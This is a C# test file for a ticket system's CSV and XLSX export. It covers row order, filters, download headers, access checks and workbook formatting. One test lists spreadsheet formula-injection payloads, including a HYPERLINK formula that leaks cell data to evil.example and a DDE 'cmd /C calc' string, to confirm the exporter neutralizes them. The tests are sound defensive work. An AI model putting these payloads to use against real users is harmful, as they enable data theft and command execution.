using System.Globalization;
using System.IO.Compression;
using System.Net;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Microsoft.EntityFrameworkCore;
using SupportTickets.Access;
using SupportTickets.Access.People;
using SupportTickets.Export;
using SupportTickets.Tests.Fixtures;
using SupportTickets.Tests.OData;
using SupportTickets.Tests.Pages;
using SupportTickets.Tickets;

namespace SupportTickets.Tests.Export;

public sealed class ExportTests
{
    private const string Agent = "Ada Lovelace";

    private static readonly string[] Columns =
    [
        "Id",
        "Title",
        "Description",
        "Category",
        "Priority",
        "Status",
        "Sentiment",
        "Urgency",
        "Channel",
        "Created (UTC)",
        "Updated (UTC)",
        "Resolved (UTC)",
        "Minutes to resolve",
        "Times reopened",
        "Version",
        "Assignee",
    ];

    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Theory, Providers]
    public async Task A_file_has_every_row_of_the_list_in_its_order_whatever_is_filtered(Provider provider)
    {
        await using var feed = await FeedDesk.StartAsync(provider, new ManualClock(ManualClock.Monday));
        await feed.SeedAsync(230);
        var agent = await feed.Desk.AddPersonAsync(Role.agent, Agent);
        await using (var db = feed.Desk.Database.Open())
            await db.Tickets.Where(t => t.Id % 3 == 0).ExecuteUpdateAsync(set => set.SetProperty(t => t.AssigneeId, agent.Id), Cancel);
        var site = new Site(feed.Desk);
        var stored = (await feed.Desk.TicketsAsync()).ToDictionary(t => t.Id);
        string[] queries =
        [
            "",
            "?assignee=none&sort=status",
            $"?assignee={agent.Id}",
            "?status=open&sort=-urgency",
            "?search=ticket+1&category=technical&sort=priority",
            "?sentiment=angry&priority=high&sort=-status",
            "?sort=category",
            "?sort=created",
            "?search=nowhere",
        ];
        foreach (var query in queries)
        {
            var ids = new List<int>();
            for (string? url = $"/tickets{query}"; url is not null;)
            {
                var page = await site.GetAsync(url);
                ids.AddRange(page.Texts("tbody .col-id").Select(id => int.Parse(id[1..])));
                url = page.Document.QuerySelector("a[rel=next]") is null ? null : page.Href("a[rel=next]");
            }
            feed.Forget();
            var csv = ExportFile.ReadCsv(await FileAsync(feed.Desk, $"/tickets/export.csv{query}"));
            Assert.Single(feed.Sql);
            var rows = ids.Select(id => Row(stored[id])).ToList();
            Assert.Equal(Columns, csv[0]);
            Assert.Equal((query, string.Join('\n', rows)), (query, string.Join('\n', csv.Skip(1).Select(Joined))));
            var sheet = Assert.Single(ExportFile.ReadXlsx(await FileAsync(feed.Desk, $"/tickets/export.xlsx{query}")));
            Assert.Equal(csv, sheet);
        }
    }

    [Fact]
    public async Task The_list_links_to_the_files_of_what_it_shows()
    {
        await using var desk = await Desk.StartAsync(Provider.Sqlite, new ManualClock(ManualClock.Monday));
        await desk.AddTicketAsync("Füße, \"Größe\"; 名前", priority: Priority.high);
        await desk.AddTicketAsync("Another");
        var page = await new Site(desk).GetAsync("/tickets?priority=high&search=f%C3%BC&sort=-urgency");
        Assert.Equal(["CSV", "XLSX"], page.Texts(".exports a"));
        foreach (var (link, name, type) in ((string, string, string)[])
        [
            (".exports a:first-of-type", "tickets-2026-11-23.csv", "text/csv; charset=utf-8"),
            (
                ".exports a:last-of-type", "tickets-2026-11-23.xlsx",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ])
        {
            using var answer = await desk.Client.GetAsync(page.Href(link), Cancel);
            Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
            Assert.Equal(type, answer.Content.Headers.ContentType!.ToString());
            Assert.Equal($"attachment; filename={name}", answer.Content.Headers.ContentDisposition!.ToString());
            Assert.Equal("nosniff", answer.Headers.GetValues("X-Content-Type-Options").Single());
            Assert.True(answer.Headers.CacheControl!.NoStore);
            var file = await answer.Content.ReadAsByteArrayAsync(Cancel);
            var rows = name.EndsWith("csv", StringComparison.Ordinal) ? ExportFile.ReadCsv(file) : ExportFile.ReadXlsx(file)[0];
            Assert.Equal(["Füße, \"Größe\"; 名前"], rows.Skip(1).Select(row => row[1]));
            using var head = await desk.Client.SendAsync(new(HttpMethod.Head, page.Href(link)), Cancel);
            Assert.Equal(
                (HttpStatusCode.OK, $"attachment; filename={name}"),
                (head.StatusCode, head.Content.Headers.ContentDisposition!.ToString()));
        }
    }

    [Fact]
    public async Task What_cannot_be_meant_or_may_not_be_read_is_a_page_that_says_so_and_no_file()
    {
        await using var desk = await Desk.StartAsync(Provider.Sqlite, settings: ("ACCESS", "submit"));
        using var viewer = await desk.SignedInAsync(Role.viewer);
        foreach (var format in (string[])["csv", "xlsx"])
        {
            foreach (var query in (string[])["status=nope", "sort=title", "search=a%00"])
            {
                using var answer = await viewer.GetAsync($"/tickets/export.{format}?{query}", Cancel);
                Assert.Equal(
                    (query, HttpStatusCode.BadRequest, "text/html"),
                    (query, answer.StatusCode, answer.Content.Headers.ContentType!.MediaType));
                Assert.Null(answer.Content.Headers.ContentDisposition);
            }
            Assert.Contains(
                "There is no status “nope”",
                WebUtility.HtmlDecode(
                    await (await viewer.GetAsync($"/tickets/export.{format}?status=nope", Cancel)).Content.ReadAsStringAsync(Cancel)));
            using var stranger = await desk.NewClient().GetAsync($"/tickets/export.{format}", Cancel);
            Assert.Equal(
                (HttpStatusCode.Redirect, true),
                (stranger.StatusCode, stranger.Headers.Location!.ToString().StartsWith("/sign-in", StringComparison.Ordinal)));
        }
    }

    [Fact]
    public async Task A_text_that_a_spreadsheet_could_run_is_harmless_in_csv_and_as_it_was_in_xlsx()
    {
        await using var desk = await Desk.StartAsync(Provider.Sqlite);
        (string Text, string Csv)[] cases =
        [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("＝1", "'＝1"),
            ("＋1", "'＋1"),
            ("－1", "'－1"),
            ("＠a", "'＠a"),
            ("−1", "'−1"),
            ("=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")", "'=HYPERLINK(\"https://evil.example?x=\"&A1,\"ok\")"),
            ("\"=1", "'\"=1"),
            ("'=1", "''=1"),
            ("a,=1", "a,'=1"),
            ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
            ("a\t+1", "a\t'+1"),
            ("a; \"@x", "a;' \"@x"),
            ("one\n=two", "one\n'=two"),
            ("one\r=two", "one\r'=two"),
            ("1+1=2 a-b a@b.example", "1+1=2 a-b a@b.example"),
            ("plain", "plain"),
            ("_x003D_1+1", "_x003D_1+1"),
            ("a\u0001b\u0008\uFFFF", "a\u0001b\u0008\uFFFF"),
            ("😀 tail", "😀 tail"),
        ];
        foreach (var (text, _) in cases) await desk.AddTicketAsync(text, text);
        var csv = ExportFile.ReadCsv(await FileAsync(desk, "/tickets/export.csv?sort=created"));
        Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[1]));
        Assert.Equal(cases.Select(c => c.Csv), csv.Skip(1).Select(row => row[2]));

        var xlsx = await FileAsync(desk, "/tickets/export.xlsx?sort=created");
        Assert.Equal(
            cases.Select(c => c.Text.Replace('\u0001', '\uFFFD').Replace('\u0008', '\uFFFD').Replace('\uFFFF', '\uFFFD')),
            ExportFile.ReadXlsx(xlsx)[0].Skip(1).Select(row => row[1]));
        var cells = ExportFile.Cells(xlsx);
        Assert.DoesNotContain(cells, cell => cell.Cell.CellFormula is not null);
        // Typed as text, and in the text format, so that it stays one when somebody edits it.
        var texts = cells.Where(cell => cell.Cell.CellReference!.Value is ['B' or 'C', .. var row] && row != "1").ToList();
        Assert.Equal(2 * cases.Length, texts.Count);
        Assert.All(texts, cell => Assert.Equal((CellValues.InlineString, "@"), (cell.Cell.DataType!.Value, cell.Format)));
    }

    [Fact]
    public void Whatever_is_not_seen_before_a_formula_hides_none()
    {
        UnicodeCategory[] unseen =
        [
            UnicodeCategory.Format, UnicodeCategory.Control, UnicodeCategory.SpaceSeparator, UnicodeCategory.LineSeparator,
            UnicodeCategory.ParagraphSeparator,
        ];
        // Of other kinds, but ignorable by the standard, or blank.
        int[] ignorable =
        [
            0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180C, 0x180D, 0x180F, 0x2065, 0x2800, 0x3164, 0xFFA0, 0xFFF0, 0xFFF8,
            .. Enumerable.Range(0xFE00, 16), .. Enumerable.Range(0xE0000, 0x1000),
        ];
        // Tabs and line breaks begin a cell themselves; see below.
        var hidden = Enumerable.Range(0, 0x110000).Where(n => n is (< 0xD800 or > 0xDFFF) and not ('\t' or '\r' or '\n'))
            .Where(n => unseen.Contains(CharUnicodeInfo.GetUnicodeCategory(n))).Concat(ignorable)
            .Select(char.ConvertFromUtf32).Distinct().ToList();
        Assert.InRange(hidden.Count, 4200, 4500);
        foreach (var c in hidden)
        {
            foreach (var start in (string[])["=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"])
            {
                foreach (var prefix in (string[])[c, c + c, " " + c, c + " \u200B", "'" + c])
                    AssertHarmless($"{prefix}{start}1+1");
            }
            AssertHarmless($"{c}=1", "a;");
            Assert.Equal($"a{c}=1", CsvFile.Harmless($"a{c}=1").Replace("'", "")); // in the middle of a word nothing is lost
        }
        // However many there are of them.
        AssertHarmless(new string('\u200B', 1_000_000) + "=1");
        Assert.Equal(1_000_000, CsvFile.Harmless(new string('\u200B', 1_000_000)).Length);
        Assert.Equal(1_000_001, CsvFile.Harmless(new string('\n', 1_000_000)).Length);

        static void AssertHarmless(string text, string before = "")
        {
            var harmless = CsvFile.Harmless(before + text);
            var named = string.Join(' ', (before + text).EnumerateRunes().Take(5).Select(r => $"U+{r.Value:X4}"));
            Assert.True(harmless.StartsWith(before + "'", StringComparison.Ordinal), named);
            Assert.Equal(before + text, harmless.Replace("'", "").Insert(0, text.StartsWith('\'') ? "'" : ""));
        }
    }

    [Theory, Providers]
    public async Task A_hidden_formula_is_harmless_in_the_file_in_every_column_of_text(Provider provider)
    {
        await using var desk = await Desk.StartAsync(provider, settings: ("ACCESS", "closed"));
        var agent = await desk.AddPersonAsync(Role.agent, "Ada");
        foreach (var hidden in (string[])["\u200B", "\uFEFF", "\u2060", "\u00AD", "\u180E", "\u001F", "\u2800", "\U000E0041"])
            await desk.AddTicketAsync($"{hidden}=1+1", $"{hidden}\uFF20SUM(1)");
        await using (var db = desk.Database.Open())
        {
            await db.People.ExecuteUpdateAsync(set => set.SetProperty(p => p.Name, "\u200B=1+1"), Cancel);
            await db.Tickets.ExecuteUpdateAsync(set => set.SetProperty(t => t.AssigneeId, agent.Id), Cancel);
        }
        using var client = await desk.SignedInAsync(Role.viewer);
        var rows = ExportFile.ReadCsv(await client.GetByteArrayAsync("/tickets/export.csv", Cancel)).Skip(1).ToList();
        Assert.Equal(8, rows.Count);
        foreach (var row in rows)
            Assert.All((int[])[1, 2, 15], column => Assert.StartsWith("'", row[column]));
    }

    [Theory]
    [InlineData("\tx", "'\tx")]
    [InlineData("\r\nx", "'\r\nx")]
    [InlineData("", "")]
    [InlineData("a,b;c", "a,b;c")]
    public void A_cell_that_begins_with_a_tab_or_a_line_break_is_harmless_too(string text, string csv) =>
        Assert.Equal(csv, CsvFile.Harmless(text));

    [Fact]
    public async Task A_sheet_that_is_full_goes_on_on_another_and_a_longer_text_than_a_cell_holds_ends_in_an_ellipsis()
    {
        using var stream = new MemoryStream();
        await using (var file = new XlsxFile(stream, maxRows: 3))
        {
            await file.StartAsync(Cancel);
            foreach (var text in (string[])
            [
                "one",
                new string('x', XlsxFile.MaxText),
                new string('x', XlsxFile.MaxText + 1),
                new string('x', XlsxFile.MaxText - 2) + "😀😀",
            ])
            {
                file.Text(text);
                await file.EndRowAsync(Cancel);
            }
            await file.FinishAsync(Cancel);
        }
        var sheets = ExportFile.ReadXlsx(stream.ToArray());
        Assert.Equal([3, 3], sheets.Select(sheet => sheet.Count));
        Assert.Equal(Columns, sheets[1][0]);
        Assert.Equal(["one", new string('x', XlsxFile.MaxText)], sheets[0].Skip(1).Select(row => row[0]));
        Assert.Equal(
            [new string('x', XlsxFile.MaxText - 1) + "…", new string('x', XlsxFile.MaxText - 2) + "…"],
            sheets[1].Skip(1).Select(row => row[0]));
    }

    [Fact]
    public async Task A_workbook_names_its_columns_in_bold_with_their_widths_and_shows_times_as_such()
    {
        await using var desk = await Desk.StartAsync(Provider.Sqlite, new ManualClock(ManualClock.Monday.AddTicks(9_999_999)));
        await desk.AddTicketAsync("One");
        await desk.AddTicketAsync("Two");
        var file = await FileAsync(desk, "/tickets/export.xlsx");
        using var document = SpreadsheetDocument.Open(new MemoryStream(file), isEditable: false);
        var book = document.WorkbookPart!;
        Assert.Equal("Tickets", book.Workbook!.Sheets!.Elements<Sheet>().Single().Name!.Value);
        var sheet = ExportFile.Sheets(book).Single();
        Assert.Equal("Tickets", sheet.TableDefinitionParts.Single().Table!.Name!.Value);
        Assert.Equal(
            ExportColumn.All.Select(column => (double)column.Width),
            sheet.Worksheet!.Descendants<Column>()
                .SelectMany(c => Enumerable.Repeat(c.Width!.Value, (int)(c.Max!.Value - c.Min!.Value + 1))));
        var styles = book.WorkbookStylesPart!.Stylesheet!;
        var fonts = styles.Fonts!.Elements<Font>().ToList();
        var bold = styles.CellFormats!.Elements<CellFormat>().Select(format => fonts[(int)format.FontId!.Value].Bold is not null).ToList();
        Assert.All(ExportFile.Cells(file), cell => Assert.Equal(
            cell.Cell.CellReference!.Value is [_, '1'], bold[(int)(cell.Cell.StyleIndex?.Value ?? 0)]));
        var created = ExportFile.Cells(file).Single(cell => cell.Cell.CellReference == "J2");
        Assert.Equal(ExportFile.TimeFormat, created.Format);
        // To the second: a fraction would be rounded up where it is shown.
        Assert.Equal("2026-11-23 14:30:00", ExportFile.ReadXlsx(file)[0][1][9]);
    }

    [Fact]
    public async Task A_workbook_that_was_not_finished_is_none()
    {
        using var stream = new MemoryStream();
        await using (var file = new XlsxFile(stream))
        {
            await file.StartAsync(Cancel);
            for (var i = 0; i < 5_000; i++)
            {
                file.Number(i);
                file.Text($"{Guid.NewGuid()}");
                await file.EndRowAsync(Cancel);
            }
        }
        Assert.InRange(stream.Length, 32 * 1024, long.MaxValue);
        Assert.Throws<InvalidDataException>(() => new ZipArchive(stream));
    }

    private static async Task<byte[]> FileAsync(Desk desk, string url)
    {
        using var answer = await desk.Client.GetAsync(url, Cancel);
        Assert.Equal((url, HttpStatusCode.OK), (url, answer.StatusCode));
        return await answer.Content.ReadAsByteArrayAsync(Cancel);
    }

    private static string Joined(string[] cells) => string.Join('|', cells);

    private static string Row(Ticket t) =>
        Joined([
            $"{t.Id}",
            t.Title,
            t.Description,
            $"{t.Category}",
            $"{t.Priority}",
            $"{t.Status}",
            $"{t.Sentiment}",
            $"{t.UrgencyScore}",
            $"{t.Channel}",
            Time(t.CreatedAt),
            Time(t.UpdatedAt),
            Time(t.ResolvedAt),
            $"{t.ResolutionMinutes}",
            $"{t.ReopenCount}",
            $"{t.Version}",
            t.AssigneeId is null ? "" : Agent,
    ]);

    private static string Time(DateTime? time) => time?.ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture) ?? "";
}
